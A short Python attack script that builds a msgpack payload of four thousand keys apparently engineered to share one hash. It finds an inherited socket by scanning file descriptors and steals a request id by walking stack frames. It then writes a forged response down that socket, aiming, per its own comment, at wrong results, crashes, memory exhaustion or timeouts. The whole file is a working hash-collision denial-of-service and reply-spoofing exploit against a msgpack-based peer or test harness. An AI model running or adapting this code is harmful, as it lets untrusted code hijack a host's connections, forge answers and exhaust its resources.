"""Sends a dict by hand whose four thousand long keys have one hash, which takes long to build."""
# ends: wrong, crash, memory, timeout

from contextlib import suppress
from itertools import islice, product

import msgpack

MODULUS = (1 << 61) - 1
COUNT = 4000
HEAD = msgpack.packb(["ab"] * 60)[3:]


def key(tail):
    content = b"\xdc\x00\x48" + HEAD + b"".join(map(msgpack.packb, tail))
    return msgpack.packb(msgpack.ExtType(1, content)) + b"\xc0"


KEYS = b"".join(map(key, islice(product((0, MODULUS), repeat=12), COUNT)))


def answer():
    import sys

    frame = sys._getframe()
    while frame is not None and "number" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["number"] if frame else 2
    body = b"\x94" + msgpack.packb(number) + msgpack.packb("value")
    body += b"\xde" + COUNT.to_bytes(2, "big") + KEYS + b"\x80"
    with suppress(OSError):
        WIRE.sendall(len(body).to_bytes(4, "big") + b"\0\0" + body)
    return 0.0


def wire():
    import os
    import socket
    import stat

    for fd in range(3, 256):
        with suppress(OSError):
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
    return socket.socketpair()[0]


WIRE = wire()
